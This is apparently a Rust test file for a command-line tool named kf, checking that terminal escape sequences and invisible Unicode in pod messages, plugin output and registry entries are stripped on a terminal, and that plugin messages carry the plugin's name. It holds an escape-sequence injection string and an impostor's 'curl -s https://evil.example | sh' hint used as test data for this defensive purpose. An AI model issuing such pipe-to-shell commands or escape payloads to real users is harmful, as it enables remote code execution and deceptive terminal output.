//! Untrusted text with terminal escapes: removed on a terminal, unchanged in a pipe.

use kf_tests::cluster::User;

use crate::common::registry::{self, set_up};
use crate::common::team::Team;
use crate::common::terminal::Terminal;
use crate::common::{Home, attacks};
use crate::kf_snapshot;

/// Clears the screen, sets the title, turns the text around, and hides characters in it.
const HOSTILE: &str = "oh\u{1b}[2J\u{1b}]0;root#\u{7} no \u{202e}txt\u{200b}.\u{ad}exe\u{e0041}";

#[test]
fn pod_text_cannot_control_terminal() {
    let team = Team::new("hostile");
    team.apply(
        "apiVersion: v1
kind: Pod
metadata: {name: web}
spec: {schedulerName: nobody, containers: [{name: main, image: 'kf.test/none'}]}
",
    );
    let condition = serde_json::json!({ "status": {
        "phase": "Failed", "reason": "Evicted", "message": HOSTILE,
    } });
    let patch = condition.to_string();
    team.admin(&["patch", "pod", "web", "--subresource=status", "--type=merge", "-p", &patch]);
    let home = team.home(User::DataScientist, &["status"]);
    // A pipe gets the message unchanged.
    let piped = home.run(["status", "-o", "json"]).success().stdout;
    assert!(piped.contains(serde_json::to_string(HOSTILE).unwrap().trim_matches('"')), "{piped}");
    // A terminal does not.
    let (status, screen) = Terminal::start(home.kf(["status", "--color", "never"])).finish();
    let screen = String::from_utf8(screen).unwrap();
    assert!(status.success(), "{screen}");
    assert!(screen.contains("oh no txt.exe"), "{screen}");
    assert!(
        !screen.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}', '\u{ad}', '\u{2028}', '\u{e0041}']),
        "{screen:?}"
    );
}

#[test]
fn command_output_cannot_control_terminal() {
    let home = attacks::home(&["escape-sequences"]);
    for format in ["table", "json", "yaml", "name"] {
        let line = ["escape-sequences", "--color", "never", "-o", format];
        let mut terminal = Terminal::start(home.kf(line));
        terminal.expect("[Y/n]");
        terminal.type_text("n\n");
        let (_, screen) = terminal.finish();
        let screen = String::from_utf8(screen).unwrap();
        let shown = if matches!(format, "json" | "yaml") { "txt" } else { "txt.exe" };
        assert!(screen.contains(shown), "{format}: {screen}");
        // The only escapes are kf's own, which clear a progress line and redraw a table.
        let others =
            ["\r\u{1b}[2K", "\u{1b}[2K", "\u{1b}[J"].iter().fold(screen, |text, own| text.replace(own, ""));
        let hidden = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{200b}', '\u{ad}', '\u{2028}', '\u{e0041}'];
        assert!(!others.contains(hidden), "{format}: {others:?}");
        // In JSON the escapes are text, in errors too.
        assert!(matches!(format, "json" | "yaml") || !others.contains("root#"), "{format}: {others:?}");
    }
}

#[test]
fn command_messages_are_prefixed_with_its_name() {
    let home = attacks::home(&["impostor"]);
    kf_snapshot!(home.run(["impostor"]), @"
    exit: 1
    ----- stdout -----
    ----- stderr -----
    impostor: error: your login has expired
    impostor: hint: kf registry add https://evil.example
    impostor: localhost:5432 → pod web:5432
    warning: impostor: kf is out of date
    impostor: Nothing was changed.
    error: impostor: the cluster does not know you
    hint: impostor: curl -s https://evil.example | sh
    ");
    let mut terminal = Terminal::start(home.kf(["impostor", "--color", "never"]));
    terminal.expect("impostor: Upgrade kf? [Y/n]");
    terminal.interrupt();
}

#[test]
fn registry_text_cannot_control_terminal() {
    let work = tempfile::tempdir().unwrap();
    let index = work.path().join("index");
    registry::copy(&registry::index(), &index);
    let entry = index.join("plugins/hello.toml");
    let text = fs_err::read_to_string(&entry).unwrap();
    let hostile = text.replace("summary = \"", "summary = \"\\u001b[2J\\u202e");
    assert_ne!(hostile, text);
    fs_err::write(&entry, hostile).unwrap();
    let built = registry::try_build(&index, &registry::only("hello", work.path()), work.path());
    if built.code == Some(0) {
        let home = Home::empty();
        set_up(&home, work.path());
        let listing = ["command", "list", "--available", "--color", "never"];
        let (status, screen) = Terminal::start(home.kf(listing)).finish();
        let screen = String::from_utf8(screen).unwrap();
        assert!(status.success() && screen.contains("hello"), "{screen}");
        assert!(!screen.replace("\r\u{1b}[2K", "").contains(['\u{1b}', '\u{202e}']), "{screen:?}");
    }
    kf_snapshot!(built.masked(&work.path().display().to_string(), "[WORK]"), @"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: cannot read the summary of hello: must be one line of 1 to 120 characters without control or invisible characters
    ");
}
